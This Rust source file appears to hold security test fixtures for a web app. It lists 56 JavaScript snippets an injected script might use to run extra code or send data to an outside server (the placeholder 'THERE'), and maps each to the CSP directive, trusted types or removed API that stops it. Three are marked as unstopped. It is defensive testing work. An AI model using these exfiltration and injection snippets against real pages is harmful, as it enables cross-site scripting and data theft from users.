//! Attempts of an injected script to run more code or to send data elsewhere, and the mechanism that stops each.

/// The mechanism that stops an attempt.
#[derive(Clone, Copy, PartialEq)]
pub enum Stop {
    /// This directive of the policy, or the one that requires trusted types.
    Rule(&'static str),
    /// The API is missing in the page: the boot script removed it, or refuses to create it.
    Gone,
    /// The API requires a trusted type, in browsers that have them.
    Types,
    /// The boot script stops the navigation, in browsers that have the Navigation API.
    Navigate,
    /// Nothing stops the attempt. docs/threat-model.md says so.
    Nothing,
}

use Stop::{Gone, Navigate, Nothing, Rule, Types};

/// Each attempt has a name, the mechanism that stops it, and the script. `THERE` is another server, `STUN` a UDP port.
pub const ATTEMPTS: [(&str, Stop, &str); 56] = [
    // Running more code.
    (
        "a script written into the page",
        Rule("script-src"),
        "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.head.append(s)",
    ),
    (
        "a script of another site",
        Rule("script-src"),
        "const s = document.createElement('script'); s.src = 'THERE/script.js'; document.head.append(s)",
    ),
    (
        "a module of another site",
        Rule("script-src"),
        "const s = document.createElement('script'); s.type = 'module'; s.src = 'THERE/module.js'; document.head.append(s)",
    ),
    (
        "a handler in an attribute",
        Rule("script-src"),
        "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
    ),
    ("eval", Rule("script-src"), "eval('window.ran = 1')"),
    ("a timer with a text", Rule("script-src"), "window.setTimeout('window.ran = 1')"),
    ("a function made of a text", Rule("script-src"), "new Function('window.ran = 1')()"),
    ("markup", Types, "document.createElement('p').innerHTML = '<img src=THERE/markup onerror=ran=1>'"),
    (
        "markup beside an element",
        Types,
        "document.body.insertAdjacentHTML('beforeend', '<img src=THERE/beside>')",
    ),
    ("markup in a range", Types, "document.createRange().createContextualFragment('<img src=THERE/range>')"),
    ("a document parsed", Types, "new DOMParser().parseFromString('<p>', 'text/html')"),
    ("a document written", Types, "document.write('<img src=THERE/written>')"),
    ("a worker of an address", Types, "new Worker('/sw.js')"),
    ("a worker of a text", Types, "new Worker(URL.createObjectURL(new Blob(['1'])))"),
    ("a shared worker", Types, "new SharedWorker('/sw.js')"),
    ("another service worker", Types, "await navigator.serviceWorker.register('/other.js')"),
    // Bringing back APIs that the boot script removed.
    (
        "a frame",
        Gone,
        "const f = document.createElement('iframe'); f.src = 'THERE/framed'; document.body.append(f)",
    ),
    (
        "a frame by its namespace",
        Gone,
        "document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe')",
    ),
    (
        "a frame of another document",
        Gone,
        "document.implementation.createHTMLDocument().createElement('IFRAME')",
    ),
    (
        "a frame as a document",
        Gone,
        "document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe')",
    ),
    (
        "a frame as an element of one's own",
        Gone,
        "customElements.define('x-y', HTMLIFrameElement, { extends: 'iframe' })",
    ),
    ("a frame by a style sheet for XML", Gone, "new XSLTProcessor()"),
    ("an object", Gone, "document.createElement('object').data = 'THERE/object'"),
    ("an embedded thing", Gone, "document.createElement('embed').src = 'THERE/embed'"),
    // Sending data without leaving the page.
    (
        "WebRTC",
        Gone,
        "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())",
    ),
    ("WebRTC by its old name", Gone, "new webkitRTCPeerConnection({})"),
    ("WebTransport", Gone, "new WebTransport('https://127.0.0.1:1/')"),
    ("a request", Rule("connect-src"), "fetch('THERE/fetched').catch(() => 0)"),
    (
        "a request that asks for no answer",
        Rule("connect-src"),
        "fetch('THERE/opaque', { mode: 'no-cors' }).catch(() => 0)",
    ),
    (
        "a request that outlives the page",
        Rule("connect-src"),
        "fetch('THERE/kept', { method: 'POST', body: 'x', keepalive: true }).catch(() => 0)",
    ),
    (
        "a request of the old kind",
        Rule("connect-src"),
        "const x = new XMLHttpRequest(); x.open('GET', 'THERE/old'); x.send()",
    ),
    ("a beacon", Rule("connect-src"), "navigator.sendBeacon('THERE/beacon', 'x')"),
    ("a socket", Rule("connect-src"), "new WebSocket('THERE/socket'.replace('http', 'ws'))"),
    ("a stream of events", Rule("connect-src"), "new EventSource('THERE/events')"),
    ("a picture", Rule("img-src"), "new Image().src = 'THERE/picture.png'"),
    ("a picture of a set", Rule("img-src"), "new Image().srcset = 'THERE/set.png 1x'"),
    (
        "a picture of a drawing",
        Rule("img-src"),
        "const n = 'http://www.w3.org/2000/svg', s = document.createElementNS(n, 'svg'), i = document.createElementNS(n, 'image'); i.setAttribute('href', 'THERE/drawn.png'); s.append(i); document.body.append(s)",
    ),
    (
        "a picture of a style",
        Rule("img-src"),
        "document.body.style.backgroundImage = 'url(THERE/behind.png)'",
    ),
    (
        "a picture before a film",
        Rule("img-src"),
        "const v = document.createElement('video'); v.poster = 'THERE/poster.png'; document.body.append(v)",
    ),
    (
        "a film",
        Rule("media-src"),
        "const v = document.createElement('video'); v.src = 'THERE/film.mp4'; v.load()",
    ),
    ("a sound", Rule("media-src"), "new Audio('THERE/sound.mp3').load()"),
    (
        "a font",
        Rule("font-src"),
        "const f = new FontFace('x', 'url(THERE/font.woff2)'); document.fonts.add(f); f.load().catch(() => 0)",
    ),
    ("a style in an attribute", Rule("style-src"), "document.body.setAttribute('style', 'color: red')"),
    (
        "a style written into the page",
        Rule("style-src"),
        "const s = document.createElement('style'); s.textContent = 'body { color: red }'; document.head.append(s)",
    ),
    (
        "a style sheet of another site",
        Rule("style-src"),
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'THERE/style.css'; document.head.append(l)",
    ),
    (
        "a form",
        Rule("form-action"),
        "const f = document.createElement('form'); f.action = 'THERE/form'; document.body.append(f); f.submit()",
    ),
    (
        "another base of addresses",
        Rule("base-uri"),
        "const b = document.createElement('base'); b.href = 'THERE/'; document.head.append(b); b.remove()",
    ),
    // Leaving the page.
    ("another window", Gone, "window.open('THERE/opened')"),
    ("another window by a document", Gone, "document.open('THERE/opened', '', '')"),
    ("another address", Navigate, "location.href = 'THERE/address'"),
    ("another address in its place", Navigate, "location.replace('THERE/replaced')"),
    (
        "a link that nobody pressed",
        Navigate,
        "const a = document.createElement('a'); a.href = 'THERE/link'; a.click()",
    ),
    (
        "another address by the page's head",
        Navigate,
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=THERE/refresh'; document.head.append(m)",
    ),
    // Attempts that nothing stops.
    (
        "a link to a new window that nobody pressed",
        Nothing,
        "const a = document.createElement('a'); a.href = 'THERE/new'; a.target = '_blank'; a.click()",
    ),
    (
        "a link that was changed before a person presses it",
        Nothing,
        "for (const a of document.links) a.href = 'THERE/pressed?words'",
    ),
    (
        "the name of another host, looked up",
        Nothing,
        "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'THERE'; document.head.append(l)",
    ),
];
